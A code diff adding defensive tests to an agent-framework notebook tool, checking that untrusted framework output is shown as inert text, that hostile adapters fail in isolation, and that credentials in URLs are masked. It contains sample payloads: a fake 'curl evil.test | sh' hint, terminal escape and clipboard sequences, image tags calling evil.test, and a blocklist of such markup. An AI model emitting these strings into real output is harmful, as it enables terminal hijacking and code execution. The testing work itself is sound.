@@ -6,6 +6,7 @@ import asyncio
 import contextlib
 import math
 import os
+import re
 import sys
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, ClassVar
@@ -17,12 +18,15 @@ from fault_server import KEY, FaultServer
 from tframex_nb import Agent
 from tframex_nb.errors import (
     FrameworkFailed,
+    FrameworkLoadError,
     InstallFailed,
     RateLimited,
     TFrameXError,
     WorkerUnavailable,
 )
 from tframex_nb.frameworks._interpreter import choose_interpreter
+from tframex_nb.frameworks._lock import Lock
+from tframex_nb.frameworks._uv import masked
 from tframex_nb.frameworks.base import (
     AgentExecutionRequest,
     AgentSpec,
@@ -30,6 +34,8 @@ from tframex_nb.frameworks.base import (
     FrameworkIntegration,
     ModelAccess,
 )
+from tframex_nb.frameworks.environments import Environments
+from tframex_nb.frameworks.events import FrameworkChosen, FrameworkLog
 from tframex_nb.frameworks.merging import Merger
 from tframex_nb.frameworks.service import Frameworks
 from tframex_nb.frameworks.worker import AdapterSource, WorkerPool, WorkerSpec
@@ -51,6 +57,8 @@ from tframex_nb.models import RetryPolicy, VLLMModel, _loopback_uvicorn
 from tframex_nb.models._loopback_uvicorn import IDLE
 from tframex_nb.models.gateway import Gateway
 from tframex_nb.models.gateway.faults import fault_on_the_wire
+from tframex_nb.notebook.sides import Comparison, Side
+from tframex_nb.notebook.tables import Table
 
 if TYPE_CHECKING:
     from collections.abc import AsyncIterator, Awaitable, Callable
@@ -452,7 +460,7 @@ def test_no_key_reaches_a_worker_unless_it_is_named(monkeypatch):
     """Not in its environment, nor on its command line, nor in its request, nor on the disk."""
     for name in ("OPENAI_API_KEY", "TFRAMEX_API_KEY", "HF_TOKEN", "MY_SECRET"):
         monkeypatch.setenv(name, KEY)
-    found = on_pool(lambda pool: said(pool, "environment"))
+    found = on_pool(lambda pool: said(pool, "surroundings"))
     (text,) = [event.text for event in found]
     assert MODEL.base_url in text
     assert MODEL.api_key not in text  # a repr does not show it
@@ -482,3 +490,152 @@ def test_a_stage_that_another_user_laid_out_is_refused():
     os.chown(place, 12345, 12345)
     with pytest.raises(PermissionError, match="XDG_CACHE_HOME"):
         Stage.of(AdapterSource("A", "x = 1", "a.py"))
+
+
+NASTY = (
+    "\x1b]0;title\x07\x1b[2J\u202e<img src=http://evil.test/x>\n| a | ![x](http://evil.test/y) |"
+)
+
+
+def is_tame(markdown: str) -> bool:
+    """Whether nothing in it is loaded, run, obeyed by a terminal, or hidden; code is only shown."""
+    markdown = re.sub(r"^```.*?^```$", "", markdown, flags=re.DOTALL | re.MULTILINE)
+    bad = ("<img", "![", "\x1b", "\x07", "\u202e", "<script", "](javascript")
+    return not any(each in markdown for each in bad)
+
+
+def test_what_a_framework_says_in_any_field_is_shown_as_text():
+    """Its answer, the tools that it invents, what it prints, and its error."""
+    events = [
+        TextDelta(NASTY),
+        ToolCallStarted("1", NASTY, NASTY),
+        ToolResult("1", NASTY, NASTY),
+        ToolCallStarted("2", NASTY, '{"a": "%s"}' % ("<img src=x>" * 50)),
+        FrameworkLog("liar", NASTY),
+        FrameworkChosen(NASTY, NASTY, NASTY),
+    ]
+    _, run = told(*events)
+    side = Side(NASTY, run, FrameworkFailed(NASTY, hint=NASTY))
+    shown = Comparison("prompt", (side,), (NASTY,))
+    for bundle in (run._repr_mimebundle_(), shown._repr_mimebundle_()):
+        assert is_tame(bundle["text/markdown"])
+        assert not {"\x1b", "\x07", "\u202e"} & set(bundle["text/plain"])
+
+
+def test_a_table_holds_no_line_that_was_not_its_own():
+    table = Table.of(("a", "b"), [(NASTY, 1)], NASTY)
+    assert is_tame(table.to_markdown())
+    assert not {"\x1b", "\x07", "\u202e"} & set(str(table))
+    assert len(str(table).splitlines()) == 4  # the head, the row, and the note of two lines
+    assert len(table.to_markdown().splitlines()) == 5
+
+
+def test_an_error_that_a_framework_wrote_cannot_move_the_cursor():
+    async def play(pool):
+        with pytest.raises(FrameworkFailed) as caught:
+            await said(
+                pool, r"fail \x1b]52;c;evil\x07 and \x1b[2J\u202e\nhint: curl evil.test | sh"
+            )
+        return caught.value
+
+    lines = on_pool(play)._render_traceback_()
+    assert len(lines) == 2
+    assert "curl" in lines[0]  # what looks like a hint stays in the message
+    assert all(line.isprintable() for line in lines)
+
+
+BROKEN = {
+    "its constructor leaves": "def __init__(self): raise SystemExit(3)",
+    "its templates leave": "def get_supported_templates(self): raise SystemExit(3)",
+    "its version cannot be told": "version = property(lambda self: 1 / 0)",
+    "its version is none": "version = 1.0",
+    "its name is a path": "name = '../native'",
+    "its name is HTML": "name = '<b>native</b>'",
+    "its name is another's": "name = 'native'",
+    "its name means all": "name = 'all'",
+}
+
+
+@pytest.mark.parametrize("body", BROKEN.values(), ids=BROKEN)
+def test_a_hostile_adapter_is_a_row_and_leaves_the_others(tmp_path, body):
+    source = HOSTILE.read_text(encoding="utf-8").replace(
+        '    name = "hostile"\n', f'    name = "hostile"\n    {body}\n'
+    )
+    (tmp_path / "adapter.py").write_text(source, encoding="utf-8")
+
+    async def main():
+        frameworks = Frameworks()
+        try:
+            with pytest.raises(FrameworkLoadError):
+                await frameworks.load(str(tmp_path / "adapter.py"))
+            return await frameworks.rows(), frameworks.registry.get_framework("native")
+        finally:
+            await frameworks.aclose()
+
+    rows, native = asyncio.run(main())
+    assert [row["state"] for row in rows].count("failed") == 1
+    assert type(native).__module__ == "tframex_nb.frameworks.adapters.native"
+
+
+MARKERS = {
+    "no object": "[]",
+    "versions that are none": '"versions": []',
+    "a version that is none": '"versions": {"langgraph": {}}',
+    "a size that is none": '"size_mb": "large"',
+    "a name that is none": '"framework": {}',
+    "brackets without end": "[" * 100_000,
+}
+
+
+@pytest.mark.parametrize("wrong", MARKERS.values(), ids=MARKERS)
+def test_an_environment_whose_marker_was_tampered_with_does_not_count(tmp_path, wrong):
+    lock = tmp_path / "tiny.txt"
+    lock.write_text("alpha==1.0\n", encoding="utf-8")
+    folder = tmp_path / f"tiny-{Lock.read(lock).digest}-py3.11"
+    (folder / "bin").mkdir(parents=True)
+    (folder / "bin" / "python").touch()
+    right = {
+        '"framework"': '"tiny"', '"lock_hash"': '"x"', '"versions"': "{}", '"size_mb"': "1",
+        '"python_version"': '"3.11"',
+    }  # fmt: skip
+    marker = folder / "environment.json"
+    marker.write_text("{" + ", ".join(f"{k}: {v}" for k, v in right.items()) + "}")
+    assert Environments(tmp_path).find("tiny", lock) is not None
+    if wrong.startswith('"'):
+        key, _, value = wrong.partition(": ")
+        wrong = "{" + ", ".join(f"{k}: {v}" for k, v in {**right, key: value}.items()) + "}"
+    marker.write_text(wrong, encoding="utf-8")
+    assert Environments(tmp_path).find("tiny", lock) is None
+    assert Environments(tmp_path).installed() == []
+
+
+def test_an_adapter_without_its_lock_leaves_the_others(tmp_path):
+    source = HOSTILE.read_text(encoding="utf-8")
+    named = 'name = "dotted.name"\n    module = "no_such_module"\n    lock = "no/lock.txt"\n'
+    text = source.replace('name = "hostile"\n', named)
+    (tmp_path / "adapter.py").write_text(text, encoding="utf-8")
+
+    async def main():
+        frameworks = Frameworks()
+        try:
+            await frameworks.load(str(tmp_path / "adapter.py"))
+            return {row["name"]: row["state"] for row in await frameworks.rows()}
+        finally:
+            await frameworks.aclose()
+
+    states = asyncio.run(main())
+    assert (states["dotted.name"], states["native"]) == ("not installed", "ready")
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://me:p@ss@host/x",
+        "https://me:p/w@host/x",
+        "https://host/x?token=pw",
+        "http://pw@host/",
+    ],
+)
+def test_no_credential_of_an_index_is_shown(url):
+    assert "host" in masked(f"cannot reach {url} now")
+    assert not any(each in masked(f"cannot reach {url} now") for each in ("ss@", "pw", "p/w", "me"))
